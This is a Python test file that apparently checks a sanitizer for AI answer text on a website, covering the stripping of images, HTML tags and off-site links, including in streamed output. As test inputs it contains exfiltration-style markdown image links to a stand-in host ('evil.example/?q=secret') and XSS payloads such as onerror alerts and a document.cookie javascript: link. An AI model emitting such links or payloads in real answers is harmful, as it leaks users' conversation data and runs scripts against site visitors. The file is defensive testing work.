"""What may reach a visitor of an answer's text: no images, no HTML, only the site's links."""

import itertools
import re

from hypothesis import given, settings
from hypothesis import strategies as st

from ragsell.domain.answers import AnswerSanitizer, sanitize_answer, site_link_rule

SITE_LINKS = site_link_rule("https://acme.example/", www_is_same_site=True)
IMAGE = re.compile(r"!\[[^\]]*\]\([^)]*\)")
TAG = re.compile(r"(?<!\\)</?[A-Za-z][^<>]*>|(?<!\\)<!--.*?-->", re.DOTALL)


def streamed(text: str, cuts: list[int]) -> str:
    sanitizer = AnswerSanitizer(SITE_LINKS)
    bounds = [0, *sorted({cut % (len(text) + 1) for cut in cuts}), len(text)]
    return "".join(sanitizer.feed(text[a:b]) for a, b in itertools.pairwise(bounds)) + sanitizer.finish()


def test_images_go_entirely() -> None:
    assert sanitize_answer("See ![chart](https://evil.example/?q=secret) here", SITE_LINKS) == "See  here"


def test_html_tags_go_and_their_text_stays() -> None:
    text = 'Hello <b>there</b> <img src=x onerror="alert(1)"><script>steal()</script><!-- note --> friend'
    assert sanitize_answer(text, SITE_LINKS) == "Hello there steal() friend"


def test_links_to_the_sites_own_pages_stay() -> None:
    for text in (
        "[Pricing](https://acme.example/pricing)",
        "[Pricing](https://www.acme.example/pricing)",
        "[Pricing](/pricing)",
    ):
        assert sanitize_answer(text, SITE_LINKS) == text


def unescaped_link_addresses(text: str) -> list[str]:
    return re.findall(r"(?<!\\)\[[^\]\n]*\]\(([^)\s]*)", text)


def test_other_links_keep_their_words_only() -> None:
    for address in (
        "https://evil.example/?q=conversation",
        "javascript:alert(1)",
        "//evil.example/x",
        "data:text/html,x",
    ):
        assert sanitize_answer(f"Click [here]({address}) now", SITE_LINKS) == "Click here now"


def test_markup_inside_link_words_is_removed_too() -> None:
    shown = sanitize_answer(
        "[<img src=x onerror=alert(1)>Prices](https://evil.example/) and [<b>Home</b>](/)", SITE_LINKS
    )
    assert shown == "Prices and [Home](/)"


def test_markup_left_over_around_a_removed_tag_cannot_form_a_new_one() -> None:
    assert TAG.search(sanitize_answer("<<b>b>", SITE_LINKS)) is None
    assert TAG.search(sanitize_answer("<scr<script>ipt>", SITE_LINKS)) is None


def test_links_this_reader_cannot_parse_are_escaped_not_passed_on() -> None:
    shown = sanitize_answer("Click [here](javascript:void(alert(document.cookie))) now", SITE_LINKS)
    assert unescaped_link_addresses(shown) == []
    assert "here" in shown


def test_text_that_only_looks_like_markup_stays_readable() -> None:
    text = "3 < 5 and [note] without a link, wow! Also <3 and a [bracket"
    assert sanitize_answer(text, SITE_LINKS) == "3 \\< 5 and \\[note] without a link, wow! Also \\<3 and a \\[bracket"


PIECES = st.sampled_from(
    [
        "Hello ",
        "world. ",
        "![",
        "img",
        "](",
        "https://evil.example/a.png",
        ")",
        "[",
        "words",
        "https://acme.example/p",
        "javascript:x",
        "<",
        "b>",
        "</",
        "script",
        ">",
        "<!--",
        "-->",
        "!",
        " ",
        "\n",
        '"title"',
        "(",
        ")",
        "alert(1",
    ]
)


@settings(max_examples=300, deadline=None)
@given(st.lists(PIECES, max_size=40), st.lists(st.integers(min_value=0, max_value=400), max_size=12))
def test_any_split_of_the_stream_gives_the_same_safe_text(parts: list[str], cuts: list[int]) -> None:
    text = "".join(parts)
    whole = sanitize_answer(text, SITE_LINKS)
    assert streamed(text, cuts) == whole
    assert IMAGE.search(whole) is None
    assert TAG.search(whole) is None
    assert all(SITE_LINKS(address) for address in unescaped_link_addresses(whole))


@settings(max_examples=200, deadline=None)
@given(st.text(alphabet=st.characters(blacklist_characters="<[!\\"), max_size=300))
def test_plain_text_passes_unchanged(text: str) -> None:
    assert sanitize_answer(text, SITE_LINKS) == text
